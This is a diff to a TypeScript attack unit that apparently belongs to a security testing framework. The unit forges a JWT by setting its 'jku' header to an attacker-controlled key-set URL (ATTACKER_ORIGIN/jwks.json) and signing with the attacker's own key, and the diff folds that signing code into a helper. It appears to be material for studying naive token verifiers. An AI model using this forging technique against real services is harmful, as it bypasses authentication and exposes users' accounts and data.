@@ -1,9 +1,7 @@
 /** The address of the attacker’s own key set in the header. Not: the key itself (jwk-injection.ts). */
 import { rfc } from '#sources/sources';
-import { sign, withParameters } from '#jose/forgery/header';
-import { ATTACKER_PUBLIC_JWK } from '../attacker/attacker-key';
 import { ATTACKER_ORIGIN } from '../origins';
-import { forgerHas, noTokenToForge, present } from '../attacker/forged-token';
+import { forging, underOwnKey } from '../attacker/forged-token';
 import { LIBRARIES_TAKE_NO_KEY, NAIVE_VERIFIER_ASSUMED } from '../attacker/assumed';
 import type { AttackUnit } from '../attacker/attack';
 
@@ -17,13 +15,5 @@ export default {
   scene: ['log-in', 'read-orders'],
   assumes: [NAIVE_VERIFIER_ASSUMED, LIBRARIES_TAKE_NO_KEY],
   presupposes: { alg: 'EdDSA' },
-  inapplicable: noTokenToForge,
-  play: async (hands) => {
-    const has = await forgerHas(hands);
-    if (!has) return;
-
-    const { alg, kid } = ATTACKER_PUBLIC_JWK;
-    const header = withParameters(has.header, { alg, kid, jku: `${ATTACKER_ORIGIN}/jwks.json` });
-    await present(hands, [{ compact: await sign(header, has.payload, alg, has.own.privateKey) }]);
-  },
+  ...forging((has) => underOwnKey(has, { jku: `${ATTACKER_ORIGIN}/jwks.json` })),
 } satisfies AttackUnit;
